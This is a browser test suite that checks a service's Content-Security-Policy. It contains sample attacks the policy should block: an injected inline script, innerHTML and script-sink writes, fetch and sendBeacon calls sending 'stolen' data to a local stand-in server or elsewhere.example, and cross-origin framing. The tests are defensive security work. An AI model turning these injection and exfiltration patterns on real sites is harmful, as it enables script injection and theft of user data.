// The browser enforces the service's Content-Security-Policy, and the tests notice each violation.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, test } from "node:test";

import { closeBrowser, launch, openPage, watchPolicy } from "./support/browser.mjs";
import { afterTest } from "./support/cleanup.mjs";
import { LeadsPage } from "./support/leads.mjs";
import { Service } from "./support/service.mjs";
import { expectEventually } from "./support/wait.mjs";

after(closeBrowser);

// Opens the app in a page whose violations are returned instead of failing the test.
async function watched(t) {
  const service = await Service.start(t, { demo: 5 });
  const browser = await launch();
  afterTest(t, () => browser.close());
  const context = await browser.newContext();
  const violated = await watchPolicy(context);
  const page = await context.newPage();
  await LeadsPage.open(page, service.url);
  assert.deepEqual(violated, [], "the app itself violates nothing");
  const expectViolation = (pattern) => expectEventually(String(pattern), () => violated.some((one) => pattern.test(one)));
  return { page, context, service, violated, expectViolation };
}

test("an inline script does not run, and is reported in every tab", async (t) => {
  const { context, service, expectViolation } = await watched(t);
  await context.route("**/leads?injected", async (route) => {
    const response = await route.fetch();
    const body = `${await response.text()}<script>globalThis.injected = true</script>`;
    await route.fulfill({ response, body });
  });
  const other = await context.newPage();
  await other.goto(`${service.origin}/leads?injected`);
  await expectViolation(/^policy: script-src-elem inline/);
  assert.equal(await other.evaluate(() => globalThis.injected), undefined);
});

test("text does not become HTML, a script or a script URL", async (t) => {
  const { page, expectViolation } = await watched(t);
  const attempts = {
    innerHTML: () => (document.body.innerHTML = "<b>x</b>"),
    "script text": () => (document.createElement("script").text = "x"),
    "script src": () => (document.createElement("script").src = "/boot.js"),
    "a policy": () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    await assert.rejects(page.evaluate(attempt), /TypeError/, name);
  }
  await expectViolation(/^policy: require-trusted-types-for trusted-types-sink Element innerHTML/);
  await expectViolation(/^policy: trusted-types trusted-types-policy default/);
});

test("a page sends nothing to another origin, and cannot be framed", async (t) => {
  const { page, service, expectViolation } = await watched(t);
  let asked = 0;
  const other = createServer((_, response) => {
    asked += 1;
    response.setHeader("content-type", "text/html");
    response.end(`<!doctype html><link rel="icon" href="data:,"><iframe src="${service.origin}/leads"></iframe>`);
  });
  await new Promise((listening) => other.listen(0, "127.0.0.1", listening));
  afterTest(t, () => new Promise((closed) => other.close(closed).closeAllConnections()));
  const address = `http://127.0.0.1:${other.address().port}`;
  const sent = page.evaluate((address) => fetch(`${address}/?stolen`, { mode: "no-cors" }), address);
  await assert.rejects(sent, /Failed to fetch/);
  await expectViolation(/^policy: connect-src http.*stolen/);
  await page.evaluate((address) => navigator.sendBeacon(`${address}/?beacon`, "stolen"), address);
  await expectViolation(/^policy: connect-src http.*beacon/);
  assert.equal(asked, 0);
  await page.goto(address);
  await expectViolation(/frame-ancestors/);
  assert.equal(asked, 1);
});

test("a violation fails the test that has it", async (t) => {
  const service = await Service.start(t, { demo: 5 });
  // Its own test context, which passes.
  const steps = [];
  const inner = { name: "a page with a violation", passed: true, after: (step) => steps.push(step) };
  const page = await openPage(inner, { expected: [/./] });
  await LeadsPage.open(page, service.url);
  await page.evaluate(() => fetch("https://elsewhere.example/").catch(() => {}));
  await assert.rejects(Promise.all(steps.map((step) => step())), ({ message, actual }) => {
    assert.match(message, /^the page reported problems/);
    return actual.some((problem) => /^policy: .*elsewhere\.example/.test(problem));
  });
});
